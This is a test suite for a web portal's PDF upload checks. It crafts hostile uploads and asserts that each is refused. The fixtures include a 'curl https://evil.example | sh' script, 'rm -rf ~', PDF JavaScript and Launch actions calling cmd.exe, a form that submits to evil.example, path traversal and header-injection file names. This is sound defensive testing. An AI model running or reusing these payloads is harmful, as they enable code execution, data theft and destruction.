"""Uploaded PDFs: hostile files are refused with clear messages; good ones are kept as sent."""

from __future__ import annotations

import hashlib
import io
import os
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from flask import Blueprint, Flask, request
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from werkzeug.datastructures import FileStorage
from werkzeug.exceptions import RequestEntityTooLarge
from werkzeug.test import TestResponse, encode_multipart

from portal import file_names, pdf, pdf_safety, uploads
from portal.config import Defaults
from portal.errors import InvalidInput
from portal.file_names import safe_file_name
from portal.uploads import (
    DEFAULT_MAX_UPLOAD_BYTES,
    CorruptUpload,
    StoredFile,
    accept_pdf,
    open_upload,
    send_upload,
    upload_path,
)

LIMIT = 64 * 1024  # a small limit keeps the oversize cases cheap


# --- PDFs written by hand, so each hostile feature is exactly where a test wants it ---------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def build_pdf(*objects: bytes, unlisted: bytes = b"", trailer: bytes = b"") -> bytes:
    """A PDF with ``objects`` numbered from 1 (1 is the catalog) and a correct xref table.

    ``unlisted`` is written as an object that the xref table does not name.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if unlisted:
        out += b"%d 0 obj\n%s\nendobj\n" % (len(objects) + 1, unlisted)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def plain_pdf() -> bytes:
    return build_pdf(CATALOG, PAGES, PAGE)


def pdf_with_page_annotation(annotation: bytes) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>"
    return build_pdf(CATALOG, PAGES, page, annotation)


def pdf_with_link(action: bytes) -> bytes:
    return pdf_with_page_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + action + b" >>"
    )


def pdf_opening_with(action: bytes) -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    return build_pdf(catalog, PAGES, PAGE, action)


def written_by_pypdf(change: Callable[[PdfWriter], object] | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    # RC4 needs no crypto library; any /Encrypt entry is refused whatever the algorithm.
    return written_by_pypdf(lambda w: w.encrypt("", "owner-secret", algorithm="RC4-128"))


def pdf_with_attachment() -> bytes:
    return written_by_pypdf(lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00"))


def zip_archive(comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.js", "alert(document.cookie)")
        archive.comment = comment
    return out.getvalue()


def deeply_nested() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 20_000 + b"]" * 20_000 + b" >>"
    return build_pdf(catalog, PAGES, PAGE)


HTML = b"<!DOCTYPE html><html><body><script>fetch('/me/export')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)

NOT_A_PDF = "not a PDF"
BAD_NAME_CHARS = "control or invisible characters"
FOLDERS = "must not contain folder names"
NOT_PDF_NAME = "must end in .pdf"
DAMAGED = "could not be read"

HOSTILE = [
    # (id, file name, bytes, words the message must contain)
    ("zero-byte", "rules.pdf", lambda: b"", "The file is empty"),
    ("one-byte-over", "rules.pdf", lambda: plain_pdf().ljust(LIMIT + 1, b"\n"), "limit of 64 KB"),
    (
        "script-renamed",
        "rules.pdf",
        lambda: b"#!/bin/sh\ncurl https://evil.example | sh\n",
        "a script",
    ),
    ("html-renamed", "rules.pdf", lambda: HTML, "a web page"),
    ("html-extension", "rules.html", lambda: HTML, NOT_PDF_NAME),
    ("svg-renamed", "logo.pdf", lambda: SVG, "an SVG image"),
    ("png-renamed", "scan.pdf", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "a PNG image"),
    ("exe-renamed", "rules.pdf", lambda: b"MZ\x90\x00\x03" + b"\x00" * 64, "a Windows program"),
    ("docx-renamed", "rules.pdf", lambda: zip_archive(), "an Office document"),
    ("text-renamed", "rules.pdf", lambda: b"Just some notes.\n", NOT_A_PDF),
    ("double-extension", "rules.PDF.exe", plain_pdf, NOT_PDF_NAME),
    ("no-extension", "rules", plain_pdf, NOT_PDF_NAME),
    ("path-traversal", "../../etc/passwd.pdf", plain_pdf, FOLDERS),
    ("windows-traversal", "..\\..\\x.pdf", plain_pdf, FOLDERS),
    ("absolute-path", "/etc/rules.pdf", plain_pdf, FOLDERS),
    ("nul-in-name", "rules\x00.pdf", plain_pdf, BAD_NAME_CHARS),
    ("newline-in-name", "rules\r\nX-Injected: 1.pdf", plain_pdf, BAD_NAME_CHARS),
    ("right-to-left-override", "invoice\u202efdp.exe", plain_pdf, BAD_NAME_CHARS),
    ("zero-width-space", "ru\u200bles.pdf", plain_pdf, BAD_NAME_CHARS),
    ("only-extension", ".pdf", plain_pdf, "needs a name before .pdf"),
    ("only-dots", "....pdf", plain_pdf, "needs a name before .pdf"),
    ("very-long-name", "r" * 300 + ".pdf", plain_pdf, "too long (at most 150 characters)"),
    ("header-not-at-start", "rules.pdf", lambda: b"\n\n" + plain_pdf(), "does not start"),
    (
        "gif-pdf-polyglot",
        "rules.pdf",
        lambda: b"GIF89a\x01\x00\x01\x00;" + plain_pdf(),
        "does not start",
    ),
    (
        "pdf-html-polyglot",
        "rules.pdf",
        lambda: b"%PDF-1.7\n<html><script>alert(document.domain)</script></html>\n%%EOF\n",
        "web page content",
    ),
    ("pdf-header-on-script", "rules.pdf", lambda: b"%PDF-1.7\nrm -rf ~\n%%EOF\n", DAMAGED),
    ("pdf-then-zip", "rules.pdf", lambda: plain_pdf() + zip_archive(), "data after its end"),
    (
        "pdf-zip-polyglot-ending-in-eof",
        "rules.pdf",
        lambda: plain_pdf() + zip_archive(comment=b"\n%%EOF\n"),
        "both a PDF and a ZIP archive",
    ),
    (
        "zip-with-pdf-header",
        "rules.pdf",
        lambda: b"%PDF-1.4\n" + zip_archive(comment=b"\n%%EOF\n"),
        "both a PDF and a ZIP archive",
    ),
    ("truncated", "rules.pdf", lambda: plain_pdf()[:-40], "incomplete"),
    (
        "no-pages",
        "rules.pdf",
        lambda: build_pdf(CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"),
        "no pages",
    ),
    ("no-catalog", "rules.pdf", lambda: build_pdf(b"<< /Foo /Bar >>"), DAMAGED),
    ("deeply-nested", "rules.pdf", deeply_nested, DAMAGED),
    ("encrypted", "rules.pdf", encrypted_pdf, "encrypted or password-protected"),
    (
        "javascript-open-action",
        "rules.pdf",
        lambda: pdf_opening_with(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "contains JavaScript",
    ),
    (
        "javascript-name-tree",
        "rules.pdf",
        lambda: build_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
            PAGES,
            PAGE,
            b"<< /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>",
        ),
        "contains JavaScript",
    ),
    (
        "javascript-hex-escaped-names",
        "rules.pdf",
        lambda: pdf_opening_with(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "contains JavaScript",
    ),
    (
        "javascript-link",
        "rules.pdf",
        lambda: pdf_with_link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
        "contains JavaScript",
    ),
    (
        "javascript-in-unlisted-object",
        "rules.pdf",
        lambda: build_pdf(
            CATALOG, PAGES, PAGE, unlisted=b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
        ),
        "contains JavaScript",
    ),
    (
        "launch-action",
        "rules.pdf",
        lambda: pdf_with_link(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "starts a program",
    ),
    (
        "launch-hidden-in-unlisted-object",
        "rules.pdf",
        lambda: build_pdf(CATALOG, PAGES, PAGE, unlisted=b"<< /S /Lau#6Ech /F (calc.exe) >>"),
        "starts a program",
    ),
    (
        "file-link",
        "rules.pdf",
        lambda: pdf_with_link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"),
        "starts a program",
    ),
    ("embedded-file", "rules.pdf", pdf_with_attachment, "contains an embedded file"),
    (
        "file-attachment-annotation",
        "rules.pdf",
        lambda: pdf_with_page_annotation(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (x.exe) >>"
        ),
        "contains an embedded file",
    ),
    (
        "rich-media",
        "rules.pdf",
        lambda: pdf_with_page_annotation(
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"
        ),
        "contains embedded media",
    ),
    (
        "xfa-form",
        "rules.pdf",
        lambda: build_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
            PAGES,
            PAGE,
            b"<< /Length 0 >>\nstream\n\nendstream",
        ),
        "XFA form",
    ),
    (
        "submit-form",
        "rules.pdf",
        lambda: pdf_with_link(b"<< /S /SubmitForm /F (https://evil.example/collect) >>"),
        "sends data elsewhere",
    ),
    (
        "open-action-to-website",
        "rules.pdf",
        lambda: pdf_opening_with(b"<< /S /URI /URI (https://evil.example/) >>"),
        "runs when the document opens",
    ),
    (
        "document-level-additional-actions",
        "rules.pdf",
        lambda: build_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /AA << /WP << /S /GoTo /D [3 0 R /Fit] >> >> >>",
            PAGES,
            PAGE,
        ),
        "opened, saved or printed",
    ),
]


@pytest.fixture
def root(app: Flask) -> Iterator[Path]:
    """The uploads folder of this test's app, inside an app context."""
    with app.app_context():
        yield uploads.uploads_root()


def upload(data: bytes, file_name: str) -> FileStorage:
    return FileStorage(io.BytesIO(data), filename=file_name, content_type="application/pdf")


def files_under(root: Path) -> list[Path]:
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.exists() else []


@pytest.mark.parametrize(
    ("file_name", "make", "expected"),
    [case[1:] for case in HOSTILE],
    ids=[case[0] for case in HOSTILE],
)
def test_a_hostile_file_is_refused_with_a_clear_message_and_nothing_is_stored(
    root: Path, file_name: str, make: Callable[[], bytes], expected: str
) -> None:
    with pytest.raises(InvalidInput) as refused:
        accept_pdf(upload(make(), file_name), root=root, max_bytes=LIMIT)
    assert expected in refused.value.message
    assert refused.value.field == "file"
    assert refused.value.message.endswith(".")
    assert len(refused.value.message) < 250
    assert files_under(root) == []


def test_there_are_at_least_twenty_hostile_files() -> None:
    assert len(HOSTILE) >= 20


@pytest.mark.parametrize("missing", [None, FileStorage(io.BytesIO(b""), filename="")])
def test_no_file_chosen_is_refused(root: Path, missing: FileStorage | None) -> None:
    with pytest.raises(InvalidInput, match=r"Choose a PDF file to upload\."):
        accept_pdf(missing, root=root, max_bytes=LIMIT)
    assert files_under(root) == []


def test_the_size_limit_is_told_in_megabytes(root: Path) -> None:
    too_big = plain_pdf().ljust(2 * 1024 * 1024 + 1, b"\n")
    with pytest.raises(InvalidInput, match="larger than the limit of 2 MB"):
        accept_pdf(upload(too_big, "rules.pdf"), root=root, max_bytes=2 * 1024 * 1024)


def test_an_endless_upload_is_read_no_further_than_the_limit_plus_one(root: Path) -> None:
    class Endless(io.RawIOBase):
        consumed = 0

        def readable(self) -> bool:
            return True

        def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
            buffer[:] = b"%" * len(buffer)
            self.consumed += len(buffer)
            return len(buffer)

    stream = Endless()
    with pytest.raises(InvalidInput, match="larger than the limit"):
        accept_pdf(FileStorage(stream, filename="rules.pdf"), root=root, max_bytes=LIMIT)
    assert stream.consumed == LIMIT + 1


@pytest.mark.pdf
def test_a_weasyprint_pdf_is_stored_once_by_its_hash(app: Flask, root: Path) -> None:
    with app.test_request_context():
        data, _log = pdf.html_to_pdf("<html><body><h1>Rules of the Society</h1></body></html>")
    stored = accept_pdf(upload(data, "Rules 2025.pdf"), root=root, max_bytes=LIMIT)
    sha = hashlib.sha256(data).hexdigest()
    assert stored == StoredFile(
        sha256=sha, size=len(data), file_name="Rules 2025.pdf", preview="Rules of the Society"
    )
    assert files_under(root) == [root / sha[:2] / sha]  # no temporary file left beside it
    assert (root / sha[:2] / sha).read_bytes() == data
    assert not (Path(app.static_folder or "static") / sha).exists()


def test_the_same_bytes_uploaded_again_do_not_rewrite_the_file(root: Path) -> None:
    data = written_by_pypdf()
    first = accept_pdf(upload(data, "rules.pdf"), root=root, max_bytes=LIMIT)
    path = upload_path(root, first.sha256)
    os.utime(path, ns=(1_000_000_000, 1_000_000_000))  # an mtime a rewrite would change
    before = path.stat()
    again = accept_pdf(upload(data, "Rules (copy).pdf"), root=root, max_bytes=LIMIT)
    after = path.stat()
    assert again.sha256 == first.sha256
    assert again.file_name == "Rules (copy).pdf"
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, 1_000_000_000)
    assert files_under(root) == [path]


def test_a_stored_file_is_read_only(root: Path) -> None:
    stored = accept_pdf(upload(plain_pdf(), "rules.pdf"), root=root, max_bytes=LIMIT)
    assert upload_path(root, stored.sha256).stat().st_mode & 0o777 == 0o440


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(pdf_opening_with(b"[3 0 R /Fit]"), id="open-at-first-page"),
        pytest.param(
            pdf_with_link(b"<< /S /URI /URI (https://reverb.example/rules) >>"), id="web-link"
        ),
        pytest.param(pdf_with_link(b"<< /S /GoTo /D [3 0 R /Fit] >>"), id="internal-link"),
        pytest.param(
            pdf_with_link(
                b"<< /S /URI /URI (https://developer.mozilla.org/docs/Web/JavaScript) >>"
            ),
            id="link-whose-address-names-javascript",
        ),
        pytest.param(plain_pdf().ljust(LIMIT, b"\n"), id="exactly-at-the-limit"),
        pytest.param(
            written_by_pypdf(lambda w: w.add_metadata({"/Title": "Rules"})), id="with-metadata"
        ),
    ],
)
def test_ordinary_pdfs_are_accepted(root: Path, data: bytes) -> None:
    stored = accept_pdf(upload(data, "rules.pdf"), root=root, max_bytes=LIMIT)
    assert open_upload(root, stored.sha256) == data


def test_a_pdf_with_too_many_objects_to_check_is_refused(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pdf_safety, "MAX_PDF_OBJECTS", 2)
    with pytest.raises(InvalidInput, match="too many parts to check"):
        accept_pdf(upload(plain_pdf(), "rules.pdf"), root=root, max_bytes=LIMIT)
    assert files_under(root) == []


def test_a_pdf_with_a_javascript_action_added_by_pypdf_is_refused(root: Path) -> None:
    data = written_by_pypdf(lambda w: w.add_open_action(JavaScript("app.alert(1)")))
    with pytest.raises(InvalidInput, match="contains JavaScript"):
        accept_pdf(upload(data, "rules.pdf"), root=root, max_bytes=LIMIT)
    assert files_under(root) == []


def test_send_upload_serves_the_same_bytes_as_an_attachment(app: Flask, root: Path) -> None:
    data = written_by_pypdf()
    stored = accept_pdf(upload(data, "Rules 2025.pdf"), root=root, max_bytes=LIMIT)
    with app.test_request_context():
        response = send_upload(root, stored.sha256, stored.file_name)
    assert response.status_code == 200
    assert response.get_data() == data
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["Content-Disposition"] == 'attachment; filename="Rules 2025.pdf"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "sandbox"
    assert response.headers["Cache-Control"] == "private, no-store"
    assert response.headers["Cross-Origin-Resource-Policy"] == "same-origin"
    assert PdfReader(io.BytesIO(response.get_data())).pages


def test_a_public_document_may_be_cached(app: Flask, root: Path) -> None:
    stored = accept_pdf(upload(plain_pdf(), "rules.pdf"), root=root, max_bytes=LIMIT)
    with app.test_request_context():
        response = send_upload(root, stored.sha256, stored.file_name, public=True)
    assert response.headers["Cache-Control"] == "public, max-age=3600"
    assert response.headers["Content-Security-Policy"] == "sandbox"


def test_a_non_ascii_name_is_sent_with_an_ascii_fallback(app: Flask, root: Path) -> None:
    stored = accept_pdf(upload(plain_pdf(), "Règlement intérieur.pdf"), root=root, max_bytes=LIMIT)
    with app.test_request_context():
        response = send_upload(root, stored.sha256, stored.file_name)
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="Reglement interieur.pdf"; '
        "filename*=UTF-8''R%C3%A8glement%20int%C3%A9rieur.pdf"
    )


@pytest.mark.parametrize(
    ("stored_name", "header"),
    [
        ('a"b.pdf', 'attachment; filename="a_b.pdf"'),
        ("x\r\nSet-Cookie: a=b.pdf", 'attachment; filename="xSet-Cookie_ a=b.pdf"'),
        ("", 'attachment; filename="download.pdf"'),
        (
            "日本語.pdf",
            'attachment; filename="download.pdf"; '
            "filename*=UTF-8''%E6%97%A5%E6%9C%AC%E8%AA%9E.pdf",
        ),
    ],
)
def test_the_download_name_is_made_safe_whatever_the_caller_passes(
    app: Flask, root: Path, stored_name: str, header: str
) -> None:
    stored = accept_pdf(upload(plain_pdf(), "rules.pdf"), root=root, max_bytes=LIMIT)
    with app.test_request_context():
        response = send_upload(root, stored.sha256, stored_name)
    assert response.headers["Content-Disposition"] == header


@pytest.mark.parametrize(
    "sha",
    ["../../etc/passwd", "A" * 64, "a" * 63, "a" * 65, "a" * 64 + "\n", "g" * 64, ""],
)
def test_open_upload_takes_only_a_sha256(root: Path, sha: str) -> None:
    with pytest.raises(ValueError, match="64 lowercase hex"):
        open_upload(root, sha)


def test_a_missing_upload_is_not_found(root: Path) -> None:
    with pytest.raises(FileNotFoundError):
        open_upload(root, "0" * 64)


def test_a_stored_file_that_changed_on_disk_is_not_served(app: Flask, root: Path) -> None:
    stored = accept_pdf(upload(plain_pdf(), "rules.pdf"), root=root, max_bytes=LIMIT)
    path = upload_path(root, stored.sha256)
    path.chmod(0o640)
    path.write_bytes(plain_pdf().replace(b"200 200", b"300 300"))
    with app.test_request_context(), pytest.raises(CorruptUpload):
        send_upload(root, stored.sha256, stored.file_name)


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("Rules 2025.pdf", "Rules 2025.pdf"),
        ("minutes.PDF", "minutes.pdf"),
        ("Members' handbook.pdf", "Members\u2019 handbook.pdf"),
        ('The "new" rules.pdf', "The _new_ rules.pdf"),
        ("  .hidden rules .pdf", "hidden rules.pdf"),
        ("a:b|c?d*e<f>g;h%i`j$k.pdf", "a_b_c_d_e_f_g_h_i_j_k.pdf"),
        ("Cafe\u0301.pdf", "Caf\u00e9.pdf"),  # one normal form (NFC), as the database stores it
    ],
)
def test_the_file_name_is_kept_readable_and_made_safe(raw: str, safe: str) -> None:
    assert safe_file_name(raw) == safe


@given(st.text(max_size=200))
def test_any_accepted_name_is_a_safe_pdf_name(raw: str) -> None:
    try:
        name = safe_file_name(raw)
    except InvalidInput:
        return
    assert name.endswith(".pdf")
    assert 4 < len(name) <= file_names.MAX_NAME_CHARS
    assert not set(name) & set("/\\\"'<>:|?*;%`$\x00\r\n")
    assert name == name.strip()
    assert not name.startswith(".")


def test_the_limit_comes_from_config(app: Flask) -> None:
    assert Defaults.DOCUMENT_MAX_UPLOAD_BYTES == DEFAULT_MAX_UPLOAD_BYTES
    assert app.config["DOCUMENT_MAX_UPLOAD_BYTES"] == DEFAULT_MAX_UPLOAD_BYTES


def test_only_an_upload_route_admits_the_largest_upload_with_its_form(
    app_factory: Callable[..., Flask],
) -> None:
    # The NUL check (and CSRF) read the form in before_request hooks, before any view runs:
    # the limit must already be raised then, and only for the upload route.
    app = app_factory(WTF_CSRF_ENABLED=False)
    bp = Blueprint("probe", __name__)

    @bp.post("/_upload")
    def upload_version() -> str:
        return f"{len(request.files['file'].read())} {request.form['title'][:5]}"

    @bp.post("/_other")
    def other() -> str:
        return "read"

    uploads.allow_upload_bodies(bp, "upload_version")
    app.register_blueprint(bp)
    app.register_error_handler(RequestEntityTooLarge, lambda exc: ("too large", 413))
    client = app.test_client()

    def post(url: str, size: int) -> TestResponse:
        # Encoded here: the test client's own encoder leaves a large body's temp file open.
        boundary, body = encode_multipart(
            {"title": "Rules " * 1000, "file": FileStorage(io.BytesIO(b"%" * size), "rules.pdf")}
        )
        return client.post(
            url, data=body, content_type=f"multipart/form-data; boundary={boundary}", csrf=False
        )

    largest = post("/_upload", DEFAULT_MAX_UPLOAD_BYTES)
    assert largest.status_code == 200
    assert largest.get_data(as_text=True) == f"{DEFAULT_MAX_UPLOAD_BYTES} Rules"
    assert post("/_upload", DEFAULT_MAX_UPLOAD_BYTES + uploads.FORM_ROOM_BYTES).status_code == 413
    assert post("/_other", 3 * 1024 * 1024).status_code == 413
    # A URL-encoded body is read whole into memory: it keeps the small limit everywhere.
    encoded = client.post("/_upload", data={"title": "x" * 3 * 1024 * 1024}, csrf=False)
    assert encoded.status_code == 413


# --- active content hidden in an object stream (issue 12, item 11) ------------------------


def hidden_in_object_stream(
    action: bytes = b"<< /S /JavaScript /JS (app.alert(1)) >>",
    *,
    stream_listed: bool = True,
    compressed: bool = True,
) -> bytes:
    """A PDF that opens with object 4, which the xref table marks free, while an object
    stream (object 5, itself listed or not) still holds it."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    packed = b"4 0 " + action
    data = zlib.compress(packed) if compressed else packed
    filters = b"/Filter /FlateDecode " if compressed else b""
    object_stream = b"<< /Type /ObjStm /N 1 /First 4 %s/Length %d >>\nstream\n%s\nendstream" % (
        filters,
        len(data),
        data,
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate((catalog, PAGES, PAGE, b"", object_stream), start=1):
        if body:
            offsets.append(len(out))
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n"
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets[:3])
    out += b"0000000000 00001 f \n"  # object 4: free, says the table
    out += b"%010d 00000 n \n" % offsets[3] if stream_listed else b"0000000000 00001 f \n"
    out += b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


@pytest.mark.parametrize("stream_listed", [True, False])
@pytest.mark.parametrize(
    ("action", "finding"),
    [
        (b"<< /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"),
        (b"<< /S /Java#53cript /JS 9 0 R >>", "JavaScript"),
        (b"<< /S /GoToR /F (other.pdf) >>", "starts a program or opens a file"),
        (b"<< /S /Launch /F (calc.exe) >>", "starts a program or opens a file"),
    ],
)
def test_active_content_in_an_object_stream_is_refused_though_the_xref_marks_it_free(
    root: Path, action: bytes, finding: str, stream_listed: bool
) -> None:
    data = hidden_in_object_stream(action, stream_listed=stream_listed)
    with pytest.raises(InvalidInput, match=finding):
        accept_pdf(upload(data, "minutes.pdf"), root=root, max_bytes=LIMIT)
    assert files_under(root) == []


def test_the_same_object_uncompressed_was_already_refused(root: Path) -> None:
    data = hidden_in_object_stream(compressed=False)
    with pytest.raises(InvalidInput, match="JavaScript"):
        accept_pdf(upload(data, "minutes.pdf"), root=root, max_bytes=LIMIT)


def test_an_object_stream_that_only_goes_to_a_page_is_accepted(root: Path) -> None:
    data = hidden_in_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    assert accept_pdf(upload(data, "minutes.pdf"), root=root, max_bytes=LIMIT).size == len(data)
